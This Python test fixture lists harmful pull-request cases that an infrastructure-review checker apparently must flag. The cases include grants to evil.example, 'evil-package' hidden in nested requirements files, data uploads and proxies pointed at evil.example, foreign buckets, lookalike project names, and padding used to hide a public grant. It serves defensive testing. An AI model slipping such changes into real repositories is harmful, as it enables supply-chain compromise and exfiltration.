"""Harmful pull requests beside the lists: what no row of a table names is a caution by rule.

Each has a text that must stand in the caution block; none loses data, unless it expects another exit status.
"""

from typing import Final

from attacks.attack import MAIN, Attack, Edit, append, declare, delete, edit, together, write
from attacks.jobs import GKE, IMAGE, ONE_SIZE, options, pod, spec, variables

_MODEL_DIR: Final = "    model_dir: ${run_dir}\n"
_ARGS: Final = "  args:                          # the program's own flags, in this order\n"
_PRICE: Final = "# prices: {v2: 1.5}    # USD per chip hour, for the cost of a run\n"
_DATABASE: Final = (
    'gcp.sql.DatabaseInstance("db", project=settings.project, name="db", region="us-central1",\n'
    '    database_version="POSTGRES_16", deletion_protection=True, settings={"tier": "db-f1-micro", EXTRA})\n'
)
_JOB: Final = (
    'gcp.cloudrunv2.Job("NAME", project=settings.project, name="NAME", location="us-central1",\n'
    '    template={"template": {"containers": [{"image": "evil.example/x"}]}})\n'
)
_KEY: Final = (
    'ring = gcp.kms.KeyRing("ring", project=settings.project, name="ring", location="us-central1")\n'
    'gcp.kms.CryptoKey("key", name="key", key_ring=ring.id, rotation_period="ROTATION")\n'
)
_REGISTRY: Final = (
    'gcp.artifactregistry.Repository("images", project=settings.project, location="us-central1", format="DOCKER",\n'
    '    repository_id="images", docker_config={"immutable_tags": TAGS})\n'
)
_EXECUTOR: Final = "us-docker.pkg.dev/vertex-ai/training/tf-tpu.2-15.cp310:latest"
_PACKAGE: Final = spec(
    (
        f"  image: {IMAGE}\n",
        f"  image: {_EXECUTOR}\n  package: gs://my-project-dev-mnist-dev-us-central1/a.tar.gz\n  module: trainer\n",
    )
)
_LONG: Final = "x" * 21_000


def _job(name: str) -> str:
    return _JOB.replace("NAME", name)


def _database(extra: str = "") -> str:
    return _DATABASE.replace("EXTRA", extra)


def _key(rotation: str) -> str:
    return _KEY.replace("ROTATION", rotation)


def _registry(tags: bool) -> str:
    return _REGISTRY.replace("TAGS", str(tags))


def _argument(line: str) -> Edit:
    return spec((_ARGS, f"{_ARGS}    {line}\n"))


def _grant(kind: str, target: str, member: str, more: str = "") -> str:
    return f'gcp.{kind}("g", {target}, role="roles/viewer", member="{member}"{more})'


def _harmful(
    id: str, change: Edit, *cautions: str, base: Edit | None = None, status: int = 0
) -> Attack:
    return Attack(id, change, cautions, status=status, base=base)


HARMFUL: Final = (
    # Resources.
    _harmful("new-type-of-resource", declare(_job("miner")), "`cloudrunv2.Job`", "`miner`"),
    _harmful(
        "second-resource-of-an-unknown-type",
        declare(_job("second")),
        "`second`",
        base=declare(_job("first")),
    ),
    _harmful(
        "unknown-resource-changed",
        edit(MAIN, ("evil.example/x", "evil.example/y")),
        "`first`",
        base=declare(_job("first")),
    ),
    _harmful(
        "unknown-resource-deleted",
        edit(MAIN, (_job("first"), "")),
        "`first`",
        base=declare(_job("first")),
        status=3,
    ),
    _harmful(
        "database-opened",
        edit(MAIN, (_database(), _database('"ip_configuration": {"ipv4_enabled": True}'))),
        "`db`",
        base=declare(_database()),
    ),
    _harmful(
        "database-no-longer-protected",
        edit(MAIN, ("deletion_protection=True", "deletion_protection=False")),
        "`db`",
        base=declare(_database()),
        status=3,
    ),
    _harmful(
        "key-rotates-never",
        edit(MAIN, ("7776000s", "315360000s")),
        "`key`",
        base=declare(_key("7776000s")),
    ),
    _harmful(
        "registry-with-mutable-tags",
        edit(MAIN, (_registry(tags=True), _registry(tags=False))),
        "`images`",
        base=declare(_registry(tags=True)),
    ),
    _harmful(
        "grant-of-an-unknown-type",
        declare(
            _grant("cloudrunv2.JobIamMember", 'project="p", location="l", name="n"', "allUsers")
        ),
        "`allUsers`",
    ),
    _harmful(
        "member-of-two-hundred-characters",
        declare(_grant("projects.IAMMember", 'project="p"', f"principalSet://{'m' * 180}/end")),
        f"`principalSet://{'m' * 180}/end`",
    ),
    _harmful(
        "condition-of-21-kB-before-another-grant",
        declare(
            _grant(
                "projects.IAMMember",
                'project="p"',
                "user:a@b.example",
                f', condition={{"title": "t", "expression": "{_LONG}"}}',
            )
            + '\ngcp.projects.IAMMember("h", project="p", role="roles/owner", member="domain:evil.example")'
        ),
        "characters cut",
        "`domain:evil.example`",
    ),
    _harmful(
        "a-hundred-grants-before-a-public-one",
        declare(
            'for n in range(100):\n    gcp.projects.IAMMember(f"a{n}", project="p", role="roles/viewer", '
            'member=f"group:g{n}@example.com")\n'
            'gcp.projects.IAMMember("z", project="p", role="roles/viewer", member="allUsers")'
        ),
        "`allUsers`",
    ),
    # The stack program and what Pulumi reads.
    _harmful(
        "program-that-reads-its-environment",
        append(MAIN, "\nimport os\nos.getenv('CI')\n"),
        f"`{MAIN}`",
    ),
    _harmful(
        "program-with-a-new-module",
        write("stacks/helper.py", "print('imported by nothing yet')\n"),
        "`stacks/helper.py`",
    ),
    _harmful(
        "requirements-of-the-program",
        write("requirements.txt", "evil-package\n"),
        "`requirements.txt`",
    ),
    _harmful(
        "requirements-included",
        write("more/base.txt", "evil-package\n"),
        "`more/base.txt`",
        base=together(
            write("requirements.txt", "-r more/base.txt\n"), write("more/base.txt", "pulumi\n")
        ),
    ),
    _harmful(
        "requirements-included-twice",
        write("more/deep.txt", "evil-package\n"),
        "`more/deep.txt`",
        base=together(
            write("requirements.txt", "--requirement=more/base.txt\n"),
            write("more/base.txt", "-r deep.txt\n"),
            write("more/deep.txt", "pulumi\n"),
        ),
    ),
    _harmful(
        "constraints-included",
        write("constraints.txt", "pulumi==0.1\n"),
        "`constraints.txt`",
        base=together(
            write("requirements.txt", "-c constraints.txt\npulumi\n"),
            write("constraints.txt", "\n"),
        ),
    ),
    _harmful(
        "editable-package-included",
        write("lib/setup.py", "print('runs on installation')\n"),
        "`lib/setup.py`",
        base=together(write("requirements.txt", "-e ./lib\npulumi\n"), write("lib/setup.py", "\n")),
    ),
    _harmful(
        "other-language-of-the-project",
        edit("Pulumi.yaml", ("name: python", "name: nodejs")),
        "`Pulumi.yaml`",
    ),
    _harmful(
        "requirements-included-in-another-form",
        write("deps/one.txt", "evil-package\n"),
        "`deps/one.txt`",
        base=together(
            write("requirements.txt", "--req \\\n  'deps/one.txt'\n"),
            write("deps/one.txt", "pulumi\n"),
        ),
    ),
    # Workflows.
    _harmful(
        "quoted-permission",
        write(
            ".github/workflows/x.yml", 'on: push\n"permissions": {"contents": "write"}\njobs: {}\n'
        ),
        "`.github/workflows/x.yml`",
    ),
    _harmful(
        "pull-request-target",
        write(".github/workflows/x.yml", "on: pull_request_target\npermissions: {}\njobs: {}\n"),
        "`.github/workflows/x.yml`",
    ),
    _harmful(
        "workflow-that-is-another-events",
        edit(".github/workflows/x.yml", ("on: push", "on: [push, issue_comment]")),
        "`.github/workflows/x.yml`",
        base=write(".github/workflows/x.yml", "on: push\npermissions: {}\njobs: {}\n"),
    ),
    _harmful(
        "new-action",
        write(".github/actions/x/action.yml", "runs: {using: node20}\n"),
        "`.github/actions/x/action.yml`",
    ),
    _harmful(
        "owners-removed",
        delete(".github/CODEOWNERS"),
        "`.github/CODEOWNERS`",
        base=write(".github/CODEOWNERS", "* @a\n"),
    ),
    _harmful(
        "gitlab-pipeline", write(".gitlab-ci.yml", "x: {script: [./x]}\n"), "`.gitlab-ci.yml`"
    ),
    _harmful(
        "circle-pipeline", write(".circleci/config.yml", "version: 2\n"), "`.circleci/config.yml`"
    ),
    _harmful(
        "pipeline-of-another-service",
        write(".teamcity/settings.kts", "x\n"),
        "`.teamcity/settings.kts`",
    ),
    _harmful(
        "action-in-another-folder",
        write("tools/x/action.yml", "runs: {}\n"),
        "`tools/x/action.yml`",
    ),
    _harmful("jenkins-pipeline", write("Jenkinsfile", "node { sh './x' }\n"), "`Jenkinsfile`"),
    # Jobs.
    _harmful(
        "volume-over-the-code-of-the-program",
        spec(
            (_MODEL_DIR, f"{_MODEL_DIR}  mounts: {{/usr/local/lib/python3.12: '${{bucket}}/x'}}\n")
        ),
        "`/usr/local/lib/python3.12`",
        base=GKE,
    ),
    _harmful(
        "volume-over-the-code-by-extra",
        options(
            "gke",
            extra=pod(
                {"name": "trainer", "volumeMounts": [{"name": "v", "mountPath": "/app"}]},
                volumes=[{"name": "v", "emptyDir": {}}],
            ),
        ),
        "`/app`",
        base=GKE,
    ),
    _harmful(
        "field-that-kubernetes-added",
        options("gke", extra=pod(hostUsers=False)),
        "hostUsers",
        base=GKE,
    ),
    _harmful(
        "another-field-of-the-pod",
        options("gke", extra=pod(setHostnameAsFQDN=True)),
        "setHostname",
        base=GKE,
    ),
    _harmful(
        "package-of-another-bucket",
        spec(
            (
                "gs://my-project-dev-mnist-dev-us-central1/a.tar.gz",
                "gs://my-project-dev-mnlst/a.tar.gz",
            )
        ),
        "`gs://my-project-dev-mnlst`",
        base=_PACKAGE,
    ),
    _harmful(
        "dump-to-another-bucket",
        variables(XLA_FLAGS="--xla_dump_to=gs://theirs/dump"),
        "`gs://theirs`",
    ),
    _harmful(
        "dump-to-another-bucket-by-xla-flags",
        spec((_MODEL_DIR, f"{_MODEL_DIR}  xla_flags: {{v2: [--xla_dump_to=gs://theirs/dump]}}\n")),
        "`gs://theirs`",
    ),
    _harmful(
        "host-without-a-scheme",
        variables(MLFLOW_TRACKING_URI="evil.example:5000"),
        "`evil.example:5000`",
    ),
    _harmful(
        "cache-beside-the-bucket",
        _argument("cache: ${bucket}/../theirs"),
        "leads out of its folder",
    ),
    _harmful(
        "bucket-renamed",
        spec(("  prod:\n", "    bucket: theirs\n  prod:\n")),
        "bucket changed from `my-project-dev-mnist-dev-us-central1` to `theirs`",
    ),
    _harmful(
        "access-behind-many-arguments",
        together(
            spec(
                (_ARGS, _ARGS + "".join(f"    a{n}: gs://b{n}/{'x' * 900}\n" for n in range(150)))
            ),
            options("vertex-ai", extra={"enableWebAccess": True}),
        ),
        "people can open a shell in the running job",
    ),
    _harmful(
        "address-of-another-host", _argument("upload: https://evil.example/x"), "evil.example"
    ),
    _harmful(
        "metrics-through-another-proxy",
        variables(ALL_PROXY="socks5://evil.example:1080"),
        "`ALL_PROXY`",
    ),
    _harmful("module-path", variables(PYTHONUSERBASE="/data/x"), "`PYTHONUSERBASE`"),
    _harmful(
        "image-of-another-project",
        spec(("my-project/train", "my-pr0ject/train")),
        "`us-docker.pkg.dev/my-pr0ject/train/mnist`",
    ),
    _harmful(
        "checkpoints-after-the-end",
        spec(("save_checkpoints_steps: 500", "save_checkpoints_steps: 500000")),
        "no checkpoint is written before the end of a run",
    ),
    _harmful(
        "output-into-a-mounted-bucket",
        spec(
            ("model_dir: ${run_dir}", "model_dir: /gcs/my-project-dev-mnist-dev-us-central1/data")
        ),
        "the program writes to a mounted bucket",
    ),
    # Money.
    _harmful(
        "first-price-of-a-capacity",
        spec(
            (
                "prices: {v2: {on-demand: 1.5}}\n",
                "capacity: spot\nprices: {v2: {on-demand: 1.5, spot: 0.01}}\n",
            )
        ),
        "`v2.spot`",
        base=together(ONE_SIZE, spec((_PRICE, "prices: {v2: {on-demand: 1.5}}\n"))),
    ),
    _harmful(
        "limit-of-a-run-removed",
        spec(("  max_run_duration: 2h\n", "")),
        "nothing limits the whole time of a run (`set trainer.max_run_duration`)",
        base=spec((_MODEL_DIR, f"{_MODEL_DIR}  max_run_duration: 2h\n")),
    ),
    _harmful(
        "reservation-of-another-project",
        spec(
            (
                "target: vertex-ai\n",
                "target: vertex-ai\ncapacity: {reservation: projects/theirs/reservations/x}\n",
            )
        ),
        "projects/theirs/reservations/x",
    ),
    _harmful(
        "gate-removed",
        spec(("gate:", "# gate:")),
        "`min_scaling_efficiency` removed",
        base=spec(("# gate:", "gate:")),
    ),
)
